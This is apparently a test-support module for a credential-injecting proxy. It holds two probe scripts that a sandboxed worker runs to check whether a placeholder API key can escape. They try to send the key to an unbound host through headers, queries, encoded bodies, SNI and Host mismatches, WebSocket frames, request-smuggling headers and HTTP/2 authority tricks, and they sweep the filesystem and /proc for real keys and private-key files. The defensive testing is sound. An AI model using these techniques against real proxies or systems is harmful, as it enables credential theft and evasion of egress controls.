"""What a worker holding a placeholder tries, in one run: ``python3 -c PROBE LLM OTHER``.

LLM is the fake API's base URL (a bound host), OTHER the recorder's host (not bound).
Every attempt's outcome goes into one JSON line on stdout; the test reads it. The worker
never learns the real key: it searches its own files and processes for the marker every
real key of the tests contains (``REALKEY``), which is no secret.
"""

from __future__ import annotations

PROBE = r"""
import base64, json, os, re, socket, ssl, subprocess, sys, urllib.error, urllib.parse, urllib.request

LLM, OTHER = sys.argv[1], sys.argv[2]
KEY = os.environ["OPENAI_API_KEY"]
results = {"placeholder": KEY}
CHAT = {"model": "fake", "messages": [{"role": "user", "content": "summarise this"}]}


def urllib_call(url, data=None, headers=None, method=None, context=None):
    request = urllib.request.Request(url, data=data, headers=headers or {}, method=method)
    try:
        with urllib.request.urlopen(request, timeout=20, context=context) as answer:
            return [answer.status, answer.read().decode(errors="replace")[:2000]]
    except urllib.error.HTTPError as exc:
        return [exc.code, exc.read().decode(errors="replace")[:300]]
    except Exception as exc:
        return ["failed", type(exc).__name__ + ": " + str(exc)[:200]]


bearer = {"Authorization": "Bearer " + KEY, "Content-Type": "application/json"}
chat = json.dumps(CHAT).encode()

# -- clients, unchanged, get their answer ------------------------------------------------
done = subprocess.run(
    ["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "-H", "Authorization: Bearer " + KEY,
     LLM + "/v1/models"], capture_output=True, text=True, timeout=30)
results["curl"] = [done.stdout.strip(), done.stderr.strip()[:200]]
results["urllib"] = urllib_call(LLM + "/v1/chat/completions", chat, bearer)
try:
    import requests
    answer = requests.post(LLM + "/v1/chat/completions", json=CHAT, headers=bearer, timeout=20)
    results["requests"] = [answer.status_code, answer.text[:300]]
except Exception as exc:
    results["requests"] = ["failed", repr(exc)[:300]]
try:
    import httpx
    answer = httpx.post(LLM + "/v1/chat/completions", json=CHAT, headers=bearer, timeout=20)
    results["httpx"] = [answer.status_code, answer.text[:300]]
except Exception as exc:
    results["httpx"] = ["failed", repr(exc)[:300]]

# -- the placeholder where it does not belong --------------------------------------------
other_http = "http://" + OTHER + ":8080"
other_https = "https://" + OTHER + ":8443"
results["other_http_header"] = urllib_call(other_http + "/h", headers={"Authorization": "Bearer " + KEY})
results["other_http_query"] = urllib_call(other_http + "/q?key=" + KEY)
results["other_http_body"] = urllib_call(other_http + "/b", data=KEY.encode(), method="POST")
# end to end (the recorder's certificate is the test CA's, which the worker need not trust)
results["other_https_header"] = urllib_call(other_https + "/h", headers={"Authorization": "Bearer " + KEY},
                                            context=ssl._create_unverified_context())
results["llm_body"] = urllib_call(LLM + "/v1/chat/completions",
                                  json.dumps({"messages": [{"content": KEY}]}).encode(), bearer)
results["llm_query"] = urllib_call(LLM + "/v1/models?key=" + KEY, headers=bearer)
results["llm_other_header"] = urllib_call(LLM + "/v1/models", headers={**bearer, "X-Api-Key": KEY})
results["llm_body_base64"] = urllib_call(LLM + "/v1/models", base64.b64encode(b"k=" + KEY.encode()), bearer)
results["llm_body_percent"] = urllib_call(
    LLM + "/v1/models", ("k=" + "".join("%%%02X" % ord(c) for c in KEY)).encode(), bearer)
results["llm_body_json_escaped"] = urllib_call(
    LLM + "/v1/models", ('{"k": "' + "".join("\\u%04x" % ord(c) for c in KEY) + '"}').encode(), bearer)
results["llm_plain_http"] = urllib_call(LLM.replace("https://", "http://").replace(":8443", ":8080")
                                        + "/v1/models", headers=bearer)
results["host_mismatch"] = urllib_call(LLM + "/v1/models", headers={**bearer, "Host": OTHER + ":8443"})


def tunnel(target, sni):
    # CONNECT through the proxy, then TLS naming ``sni``: what a client ignoring the
    # proxy variables' semantics could try
    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
    raw = socket.create_connection((proxy.hostname, proxy.port), timeout=20)
    raw.sendall(("CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n").encode())
    head = raw.recv(4096).decode(errors="replace")
    status = head.split(" ", 2)[1] if " " in head else head
    if status != "200":
        return ["connect", status]
    try:
        wrapped = ssl.create_default_context().wrap_socket(raw, server_hostname=sni)
    except ssl.SSLError as exc:
        return ["tls-refused", exc.reason or str(exc)[:100]]
    host = target.split(":")[0]
    wrapped.sendall(("GET /v1/models HTTP/1.1\r\nHost: " + host + ":8443\r\nAuthorization: Bearer "
                     + KEY + "\r\nConnection: close\r\n\r\n").encode())
    return ["answered", wrapped.recv(200).decode(errors="replace").split("\r\n")[0]]


def websocket():
    # a WebSocket to the bound host: the key is written into the handshake, the answer
    # that reflects it comes back scrubbed, and a message holding the placeholder closes it
    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
    target = urllib.parse.urlsplit(LLM).netloc
    raw = socket.create_connection((proxy.hostname, proxy.port), timeout=20)
    raw.sendall(("CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n").encode())
    raw.recv(4096)
    stream = ssl.create_default_context().wrap_socket(raw, server_hostname=target.split(":")[0])
    key = base64.b64encode(os.urandom(16)).decode()
    stream.sendall(("GET /ws HTTP/1.1\r\nHost: " + target + "\r\nUpgrade: websocket\r\n"
                    "Connection: Upgrade\r\nSec-WebSocket-Key: " + key + "\r\n"
                    "Sec-WebSocket-Version: 13\r\nAuthorization: Bearer " + KEY + "\r\n\r\n").encode())
    reader = stream.makefile("rb")
    status = reader.readline().decode().split(" ")[1]
    while reader.readline() not in (b"\r\n", b""):
        pass

    def read():
        head = reader.read(2)
        if len(head) < 2 or head[0] & 0x0F == 8:
            return None
        length = head[1] & 0x7F
        if length == 126:
            length = int.from_bytes(reader.read(2), "big")
        return reader.read(length).decode(errors="replace")

    def send(text):
        data, mask = text.encode(), os.urandom(4)
        stream.sendall(bytes([0x81, 0x80 | len(data)]) + mask
                       + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))

    first = read()
    send("hello")
    echoed = read()
    send("steal " + KEY)
    try:
        after = read()
    except OSError as exc:
        after = "closed: " + type(exc).__name__
    return [status, first, echoed, after]


try:
    results["websocket"] = websocket()
except Exception as exc:
    results["websocket"] = ["failed", repr(exc)[:300]]
llm_host = urllib.parse.urlsplit(LLM).netloc
results["sni_mismatch"] = tunnel(llm_host, OTHER)
results["ip_literal_connect"] = tunnel("192.0.2.10:8443", "192.0.2.10")

# -- what comes back -------------------------------------------------------------------
results["echo"] = urllib_call(LLM + "/echo", headers=bearer)
results["sse"] = urllib_call(LLM + "/sse", headers=bearer)
results["redirect"] = urllib_call(LLM + "/redirect", headers=bearer)

# -- what the worker can see -----------------------------------------------------------
results["state_visible"] = os.path.exists("/run/credproxy")
MARK = ("REAL" + "KEY").encode()  # spelled apart: this script's own text holds no marker
PEM_KEY = re.compile(rb"-----BEGIN [A-Z ]*PRIVATE KEY-----\r?\n[A-Za-z0-9+/]{16}")
found = []
for root, dirs, files in os.walk("/", onerror=lambda e: None):
    if root.startswith(("/proc", "/sys", "/dev")):
        dirs[:] = []
        continue
    for name in files:
        path = os.path.join(root, name)
        try:
            if os.path.islink(path) or os.path.getsize(path) > (8 << 20):
                continue
            data = open(path, "rb").read()
        except OSError:
            continue
        # (the image's own libraries carry test keys of their own: /usr is the image's)
        if MARK in data or (PEM_KEY.search(data) and not path.startswith("/usr/")):
            found.append(path)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for part in ("environ", "cmdline"):
            try:
                if MARK in open("/proc/%s/%s" % (pid, part), "rb").read():
                    found.append(pid + "/" + part)
            except OSError:
                pass
results["found"] = found
results["env_ca"] = {k: os.environ.get(k) for k in ("SSL_CERT_FILE", "NODE_EXTRA_CA_CERTS", "HTTPS_PROXY")}
os.makedirs("/staged", exist_ok=True)
with open("/staged/results.json", "w") as handle:
    json.dump(results, handle)
print("RESULTS " + json.dumps(results))
"""


CORPUS = r"""
import base64, json, os, re, socket, ssl, sys, time, urllib.parse

LLM, OTHER = sys.argv[1], sys.argv[2]  # host:port of the bound host and of another one
HOST = LLM.split(":")[0]
KEY = os.environ["OPENAI_API_KEY"]
AUTH = "Authorization: Bearer " + KEY + "\r\n"
PROXY = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])


def tunnel(target=LLM, alpn=None):
    raw = socket.create_connection((PROXY.hostname, PROXY.port), timeout=20)
    raw.sendall(("CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n").encode())
    head = b""
    while b"\r\n\r\n" not in head:
        part = raw.recv(4096)
        if not part:
            break
        head += part
    status = head.split(b" ", 2)[1].decode() if b" " in head else "none"
    if status != "200":
        raw.close()
        return None, "connect " + status
    context = ssl.create_default_context()
    if alpn:
        context.set_alpn_protocols(alpn)
    return context.wrap_socket(raw, server_hostname=target.split(":")[0]), None


def exchange(request, target=LLM):
    # one connection: the raw request bytes out, every byte that comes back until it closes
    try:
        stream, refused = tunnel(target)
    except (OSError, ssl.SSLError) as exc:
        stream, refused = None, "failed " + type(exc).__name__
    if stream is None:
        return {"statuses": [refused], "raw": ""}
    stream.settimeout(15)
    stream.sendall(request.encode())
    data = b""
    try:
        while True:
            part = stream.recv(65536)
            if not part:
                break
            data += part
    except (OSError, ssl.SSLError) as exc:
        data += b"\n(" + type(exc).__name__.encode() + b")"
    statuses = [status.decode() for status in re.findall(rb"HTTP/1\.[01] ([0-9]{3}) ", data)]
    return {"statuses": statuses, "raw": base64.b64encode(data).decode()}


def h2(headers):
    # an HTTP/2 request with exactly these header fields (no validation on our side)
    import h2.config, h2.connection, h2.events
    try:
        stream, refused = tunnel(alpn=["h2"])
    except (OSError, ssl.SSLError) as exc:
        stream, refused = None, "failed " + type(exc).__name__
    if stream is None:
        return {"statuses": [refused], "raw": ""}
    if stream.selected_alpn_protocol() != "h2":
        return {"statuses": ["alpn " + str(stream.selected_alpn_protocol())], "raw": ""}
    config = h2.config.H2Configuration(client_side=True, validate_outbound_headers=False,
                                       normalize_outbound_headers=False, header_encoding="utf-8")
    connection = h2.connection.H2Connection(config=config)
    connection.initiate_connection()
    connection.send_headers(1, headers, end_stream=True)
    stream.sendall(connection.data_to_send())
    statuses, data, done = [], b"", False
    stream.settimeout(15)
    try:
        while not done:
            part = stream.recv(65536)
            if not part:
                statuses.append("closed")
                break
            for event in connection.receive_data(part):
                if isinstance(event, h2.events.ResponseReceived):
                    statuses += [v for k, v in event.headers if k in (":status", b":status")]
                    data += repr(event.headers).encode()
                elif isinstance(event, h2.events.DataReceived):
                    data += event.data
                    connection.acknowledge_received_data(len(event.data), event.stream_id)
                elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset,
                                        h2.events.ConnectionTerminated)):
                    if not isinstance(event, h2.events.StreamEnded):
                        statuses.append(type(event).__name__)
                    done = True
            stream.sendall(connection.data_to_send())
    except Exception as exc:
        statuses.append(type(exc).__name__)
    # (one request: a status, or how it ended, once)
    statuses = list(dict.fromkeys(str(s) for s in statuses))
    return {"statuses": statuses, "raw": base64.b64encode(data).decode()}


def get(path, *head, version="HTTP/1.1", host=LLM, auth=AUTH, close=True):
    lines = "".join(h + "\r\n" for h in head)
    host_line = "" if host is None else "Host: " + host + "\r\n"
    return ("GET " + path + " " + version + "\r\n" + host_line + lines + auth
            + ("Connection: close\r\n" if close else "") + "\r\n")


def post(*head, body="{}"):
    lines = "".join(h + "\r\n" for h in head)
    return ("POST /v1/chat/completions HTTP/1.1\r\nHost: " + LLM + "\r\n" + lines + AUTH
            + "Connection: close\r\n\r\n" + body)


ws = ["Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="]
cases = {
    "absolute_other": get("https://" + OTHER + "/absolute"),
    "absolute_same": get("https://" + LLM + "/v1/models"),
    "host_twice": get("/v1/models", "Host: " + LLM),
    "host_twice_other": get("/v1/models", "Host: " + OTHER),
    "host_other": get("/v1/models", host=OTHER),
    "host_other_port": get("/v1/models", host=HOST + ":9443"),
    "host_folded": get("/v1/models", host=LLM + "\r\n " + OTHER),
    "http10_no_host": get("/v1/models", version="HTTP/1.0", host=None, close=False),
    "pipelined": get("/v1/models", close=False) + get("/v1/models", host=OTHER),
    "content_length_twice": post("Content-Length: 2", "Content-Length: 2"),
    "chunked_and_length": post("Transfer-Encoding: chunked", "Content-Length: 5", body="0\r\n\r\n"),
    "upgrade_other": get("/upgrade", "Connection: Upgrade", "Upgrade: x"),
    "upgrade_unasked": get("/upgrade", close=False),
    "websocket_version_8": get("/upgrade", *ws, "Sec-WebSocket-Version: 8", close=False),
    "trailers": get("/trailers"),
    "encoded_unknown": get("/encoded?coding=x-secret"),
    "encoded_stacked": get("/encoded?coding=gzip,%20gzip"),
}
for form in ("upper", "percent-lower", "json-slash", "json-u"):
    cases["reflect_" + form] = get("/reflect?form=" + form)
results = {name: exchange(request) for name, request in cases.items()}
results["connect_other_port"] = exchange(get("/v1/models", host=HOST + ":9443"), HOST + ":9443")
base = [(":method", "GET"), (":scheme", "https"), (":path", "/v1/models")]
bearer = ("authorization", "Bearer " + KEY)
results["h2_same"] = h2(base + [(":authority", LLM), bearer])
results["h2_authority_other"] = h2(base + [(":authority", OTHER), bearer])
results["h2_authority_vs_host"] = h2(base + [(":authority", LLM), ("host", OTHER), bearer])
print("CORPUS " + json.dumps(results))
"""
